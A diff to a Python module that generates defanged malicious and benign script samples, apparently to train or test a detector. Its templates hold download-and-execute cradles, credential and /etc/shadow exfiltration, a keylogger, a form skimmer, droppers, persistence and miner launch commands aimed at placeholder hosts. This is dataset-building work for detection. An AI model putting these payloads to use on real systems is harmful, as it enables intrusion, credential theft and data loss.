@@ -14,12 +14,14 @@ Why the labels cannot be told apart by a shallow cue:
 Defanged like the rest of data/tiny: only example.com/.net/.org and the documentation ranges 192.0.2.0/24,
 198.51.100.0/24 and 203.0.113.0/24 are named; nothing here is ever run, this module only writes text.
 
-Template syntax: @name@ is a drawn value (v1..v4 identifiers, host, host2, app, port, n, m, dir, file, user, key);
+Template syntax: @name@ is a drawn value (v1..v4 identifiers, proto, host, host2, app, port, n, m, dir, file, user,
+key);
 [[a||b||c]] is one of the phrasings (an empty one drops the line); a line `??` is a neutral comment, kept with
 probability COMMENT_P.
 """
 from __future__ import annotations
 
+import itertools
 import random
 import re
 
@@ -57,7 +59,7 @@ family("ps-cradle", PS, M, r'''
 ??
 $@v1@ = New-Object System.Net.WebClient
 [[$@v1@.Headers.Add('User-Agent', 'Mozilla/5.0')||$@v1@.UseDefaultCredentials = $true||]]
-$@v2@ = $@v1@.DownloadString('http://@host@/@file@.ps1')
+$@v2@ = $@v1@.DownloadString('@proto@://@host@/@file@.ps1')
 ??
 [[Invoke-Expression $@v2@||IEX $@v2@||$@v2@ | Invoke-Expression]]
 [[Write-Output 'ok'||]]
@@ -65,7 +67,7 @@ $@v2@ = $@v1@.DownloadString('http://@host@/@file@.ps1')
 family("ps-download-verify", PS, B, r'''
 ??
 $@v1@ = Join-Path $env:TEMP '@file@.msi'
-Invoke-WebRequest -Uri 'https://@host@/@app@/@file@.msi' -OutFile $@v1@ [[-UseBasicParsing||]]
+Invoke-WebRequest -Uri '@proto@://@host@/@app@/@file@.msi' -OutFile $@v1@ [[-UseBasicParsing||]]
 $@v2@ = (Get-FileHash $@v1@ -Algorithm SHA256).Hash
 ??
 if ($@v2@ -ne '@key@') { throw "checksum mismatch for $@v1@" }
@@ -74,7 +76,7 @@ if ($@v2@ -ne '@key@') { throw "checksum mismatch for $@v1@" }
 family("ps-runkey", PS, M, r'''
 $@v1@ = Join-Path $env:APPDATA '@app@\@file@.exe'
 ??
-Invoke-WebRequest 'http://@host@/@n@.bin' -OutFile $@v1@
+Invoke-WebRequest '@proto@://@host@/@n@.bin' -OutFile $@v1@
 (Get-Item $@v1@ -Force).Attributes = 'Hidden'
 Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name '@app@' -Value $@v1@
 [[Start-Process $@v1@ -WindowStyle Hidden||& $@v1@]]
@@ -93,7 +95,7 @@ $@v2@ = Join-Path $env:TEMP '@n@.db'
 Copy-Item $@v1@ $@v2@ -Force
 ??
 $@v3@ = [Convert]::ToBase64String([IO.File]::ReadAllBytes($@v2@))
-Invoke-RestMethod -Uri 'http://@host@/@dir@' -Method Post -Body @{ h = $env:COMPUTERNAME; d = $@v3@ }
+Invoke-RestMethod -Uri '@proto@://@host@/@dir@' -Method Post -Body @{ h = $env:COMPUTERNAME; d = $@v3@ }
 [[Remove-Item $@v2@ -Force||]]
 ''')
 family("ps-disk-report", PS, B, r'''
@@ -101,7 +103,7 @@ $@v1@ = Get-CimInstance Win32_LogicalDisk -Filter 'DriveType=3'
 ??
 $@v2@ = $@v1@ | ForEach-Object { @{ drive = $_.DeviceID; freeGB = [math]::Round($_.FreeSpace / 1GB, 1) } }
 $@v3@ = @{ host = $env:COMPUTERNAME; disks = $@v2@ } | ConvertTo-Json -Depth 3
-Invoke-RestMethod -Uri 'https://@host@/@dir@/disk' -Method Post -Body $@v3@ -ContentType 'application/json'
+Invoke-RestMethod -Uri '@proto@://@host@/@dir@/disk' -Method Post -Body $@v3@ -ContentType 'application/json'
 [[Write-Output 'report sent'||]]
 ''')
 family("ps-defender-tamper", PS, M, r'''
@@ -178,7 +180,7 @@ for @v2@ in ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc"[[, "~/.docker/con
     p = os.path.expanduser(@v2@)
     if os.path.exists(p):
         @v1@[@v2@] = open(p).read()
-requests.post("http://@host@/@dir@", json={"h": os.uname().nodename, "f": @v1@}[[, timeout=@n@||]])
+requests.post("@proto@://@host@/@dir@", json={"h": os.uname().nodename, "f": @v1@}[[, timeout=@n@||]])
 ''')
 family("py-metrics-push", PY, B, r'''
 import os
@@ -189,7 +191,7 @@ for @v2@ in ["/proc/loadavg", "/proc/uptime"[[, "/proc/meminfo"||]]]:
     if os.path.exists(@v2@):
         @v1@[os.path.basename(@v2@)] = open(@v2@).read().split()[0]
 @v1@["host"] = os.uname().nodename
-requests.post("https://@host@/@dir@/metrics", json=@v1@[[, timeout=@n@||]])
+requests.post("@proto@://@host@/@dir@/metrics", json=@v1@[[, timeout=@n@||]])
 ''')
 family("py-keylogger", PY, M, r'''
 from pynput import keyboard
@@ -199,7 +201,7 @@ import requests
 def @v2@(k):
     @v1@.append(str(k))
     if len(@v1@) >= @n@0:
-        requests.post("http://@host@/@dir@", data="".join(@v1@))
+        requests.post("@proto@://@host@/@dir@", data="".join(@v1@))
         @v1@.clear()
 keyboard.Listener(on_press=@v2@).[[join()||start(); input()]]
 ''')
@@ -219,16 +221,15 @@ with keyboard.GlobalHotKeys(@v3@) as h:
 family("sh-curl-bash-cron", SH, M, r'''
 #!/bin/bash
 ??
-@V1@="http://@host@/@file@.sh"
+@V1@="@proto@://@host@/@file@.sh"
 curl -fsSL "$@V1@" | bash
 (crontab -l 2>/dev/null; echo "*/@n@ * * * * curl -fsSL $@V1@ | bash") | crontab -
 [[history -c||unset HISTFILE||]]
 ''')
 family("sh-install-verify", SH, B, r'''
 #!/bin/bash
-set -euo pipefail
 ??
-@V1@="https://@host@/@app@/@file@-@n@.@m@.tar.gz"
+@V1@="@proto@://@host@/@app@/@file@-@n@.@m@.tar.gz"
 curl -fsSLo /tmp/@file@.tgz "$@V1@"
 echo "@key@  /tmp/@file@.tgz" | sha256sum -c -
 tar -xzf /tmp/@file@.tgz -C /opt[[ && rm /tmp/@file@.tgz||]]
@@ -244,7 +245,6 @@ chmod 600 /root/.ssh/authorized_keys
 ''')
 family("sh-user-provision", SH, B, r'''
 #!/bin/sh
-set -e
 ??
 id @user@ >/dev/null 2>&1 || useradd -m -s /bin/bash @user@
 install -d -m 700 -o @user@ /home/@user@/.ssh
@@ -257,7 +257,7 @@ family("sh-miner", SH, M, r'''
 pkill -f [[kdevtmpfsi||xmrig||kinsing]] 2>/dev/null
 @V1@=/tmp/.@n@
 mkdir -p $@V1@ && cd $@V1@
-wget -q http://@host@/@file@ -O @file@ && chmod +x @file@
+wget -q @proto@://@host@/@file@ -O @file@ && chmod +x @file@
 nohup ./@file@ -o @host2@:@port@ -u 4@key@ -k >/dev/null 2>&1 &
 ''')
 family("sh-worker-start", SH, B, r'''
@@ -274,7 +274,7 @@ family("sh-shadow-exfil", SH, M, r'''
 ??
 @V1@=/tmp/.@n@.tgz
 tar -czf $@V1@ /etc/passwd /etc/shadow [[/root/.bash_history||/home/*/.ssh]] 2>/dev/null
-curl -s -F "f=@$@V1@" http://@host@/@dir@
+curl -s -F "f=@$@V1@" @proto@://@host@/@dir@
 rm -f $@V1@
 ''')
 family("sh-config-backup", SH, B, r'''
@@ -311,7 +311,7 @@ document.querySelector("form[[#checkout||.payment]]").addEventListener("submit",
   const @v1@ = {};
   for (const @v2@ of this.querySelectorAll("input")) { @v1@[@v2@.name] = @v2@.value; }
   const @v3@ = btoa(JSON.stringify(@v1@));
-  new Image().src = "https://@host@/@file@.gif?d=" + @v3@;
+  new Image().src = "@proto@://@host@/@file@.gif?d=" + @v3@;
 });
 ''')
 family("js-form-submit", JS, B, r'''
@@ -326,7 +326,7 @@ document.querySelector("form[[#signup||.contact]]").addEventListener("submit", a
 ''')
 family("js-wsh-dropper", JS, M, r'''
 var @v1@ = new ActiveXObject("MSXML2.XMLHTTP");
-@v1@.open("GET", "http://@host@/@file@.exe", false);
+@v1@.open("GET", "@proto@://@host@/@file@.exe", false);
 @v1@.send();
 ??
 var @v2@ = new ActiveXObject("ADODB.Stream");
@@ -337,7 +337,7 @@ WScript.CreateObject("WScript.Shell").Run(@v3@, 0, false);
 ''')
 family("js-wsh-report-fetch", JS, B, r'''
 var @v1@ = new ActiveXObject("MSXML2.XMLHTTP");
-@v1@.open("GET", "https://@host@/@dir@/@file@.csv", false);
+@v1@.open("GET", "@proto@://@host@/@dir@/@file@.csv", false);
 @v1@.send();
 ??
 var @v2@ = new ActiveXObject("ADODB.Stream");
@@ -383,7 +383,7 @@ family("bat-certutil-drop", BAT, M, r'''
 @echo off
 ??
 set @V1@=%TEMP%\@file@.exe
-certutil -urlcache -split -f http://@host@/@n@.bin "%@V1@%" >nul
+certutil -urlcache -split -f @proto@://@host@/@n@.bin "%@V1@%" >nul
 attrib +h "%@V1@%"
 start "" /b "%@V1@%"
 [[del "%~f0"||exit /b]]
@@ -392,7 +392,7 @@ family("bat-msi-install", BAT, B, r'''
 @echo off
 ??
 set @V1@=%TEMP%\@file@.msi
-curl -fsSL -o "%@V1@%" https://@host@/@app@/@file@.msi
+curl -fsSL -o "%@V1@%" @proto@://@host@/@app@/@file@.msi
 certutil -hashfile "%@V1@%" SHA256 | find /i "@key@" >nul || exit /b 1
 msiexec /i "%@V1@%" /qn /l*v "%TEMP%\@app@-install.log"
 [[del "%@V1@%"||]]
@@ -435,7 +435,7 @@ net use P: \\@host@\printers /persistent:no
 # ================================================================================================== VBScript
 family("vbs-dropper", VBS, M, r'''
 Set @v1@ = CreateObject("MSXML2.XMLHTTP")
-@v1@.Open "GET", "http://@host@/@file@.exe", False
+@v1@.Open "GET", "@proto@://@host@/@file@.exe", False
 @v1@.Send
 ??
 Set @v2@ = CreateObject("ADODB.Stream")
@@ -446,7 +446,7 @@ CreateObject("WScript.Shell").Run @v3@, 0, False
 ''')
 family("vbs-status-fetch", VBS, B, r'''
 Set @v1@ = CreateObject("MSXML2.XMLHTTP")
-@v1@.Open "GET", "https://@host@/@dir@/status", False
+@v1@.Open "GET", "@proto@://@host@/@dir@/status", False
 @v1@.Send
 ??
 Set @v2@ = CreateObject("Scripting.FileSystemObject")
@@ -459,7 +459,7 @@ family("vbs-wmi-remote", VBS, M, r'''
 Set @v2@ = GetObject("winmgmts:\\" & @v1@ & "\root\cimv2")
 ??
 Set @v3@ = @v2@.Get("Win32_Process")
-@v3@.Create "cmd /c powershell -w hidden -c iwr http://@host@/@n@ -useb | iex", Null, Null, pid
+@v3@.Create "cmd /c powershell -w hidden -c iwr @proto@://@host@/@n@ -useb | iex", Null, Null, pid
 [[WScript.Echo "started " & pid||]]
 ''')
 family("vbs-wmi-inventory", VBS, B, r'''
@@ -497,7 +497,7 @@ For Each f In @v1@.GetFolder(CreateObject("WScript.Shell").SpecialFolders("MyDoc
     If LCase(@v1@.GetExtensionName(f.Name)) = "[[docx||pdf||xlsx]]" Then @v2@ = @v2@ & f.Path & vbLf
 Next
 Set @v3@ = CreateObject("MSXML2.XMLHTTP")
-@v3@.Open "POST", "http://@host@/@dir@", False
+@v3@.Open "POST", "@proto@://@host@/@dir@", False
 @v3@.Send @v2@
 ''')
 family("vbs-temp-cleanup", VBS, B, r'''
@@ -536,13 +536,43 @@ def _values(r: random.Random, lang: str) -> dict[str, str]:
     values |= {f"V{i}": _name(r, lang, upper=True) for i in range(1, 5)}
     values |= {"host": _host(r), "host2": _host(r), "app": r.choice(APPS), "port": str(r.choice(
         [443, 8080, 8443, 4444, 3333, 9000, 5000, 1337, 8000, 7070])), "n": str(n), "m": str(m),
-        "dir": r.choice(DIRS), "file": r.choice(FILES), "user": r.choice(USERS),
+        "proto": r.choice(["http", "https"]), "dir": r.choice(DIRS), "file": r.choice(FILES), "user": r.choice(USERS),
         "key": "".join(r.choice("0123456789abcdef") for _ in range(16)), "DRIVE": r.choice("STUVWXY"),
         "HOSTNAME": f"{r.choice(['WS', 'PC', 'SRV', 'LT'])}{r.randint(100, 999)}"}
     values["codes"] = ", ".join(str(ord(c) ^ n) for c in f"document.location='http://{values['host']}/'+document.cookie")
     values["b64conf"] = __import__("base64").b64encode(
         f'{{"api":"https://{values["host"]}/{values["dir"]}","retries":{n}}}'.encode()).decode()
     return values
+
+
+HEADERS = ("#!", "@echo off", "Option Explicit")  # lines that open a script: kept once, at the top
+STRICT_P = 0.3  # bash scripts of both labels open with `set -e` with this probability
+
+
+def plans() -> list[tuple[str, str, str, list[str]]]:
+    """The families: (group slug, lang, label, templates). Each template alone, and each pair of templates of one
+    language and label joined in one script (a dropper that also persists, a setup script that also maps drives):
+    a test family is a combination, and a surface, that training never saw."""
+    by_kind: dict[tuple[str, str], list[tuple[str, str]]] = {}
+    for slug, lang, label, template in TEMPLATES:
+        by_kind.setdefault((lang, label), []).append((slug, template))
+    out = []
+    for (lang, label), members in by_kind.items():
+        out += [(slug, lang, label, [template]) for slug, template in members]
+        for (a, ta), (b, tb) in itertools.combinations(members, 2):
+            out.append((f"{a}+{b.split('-', 1)[1]}", lang, label, [ta, tb]))
+    return out
+
+
+def render_family(templates: list[str], lang: str, r: random.Random) -> str:
+    """One drawing of a family: its templates rendered (in a drawn order), one header at the top."""
+    parts = [render(t, lang, r).splitlines() for t in templates]
+    r.shuffle(parts)
+    header = next((h for part in parts if (h := [line for line in part if line.startswith(HEADERS)])), [])
+    if lang == SH and r.random() < STRICT_P:
+        header.append("set -e")
+    body = ["\n".join(line for line in part if not line.startswith(HEADERS)) for part in parts]
+    return "\n".join(header + ["\n\n".join(body)]) + "\n"
 
 
 def render(template: str, lang: str, r: random.Random) -> str:
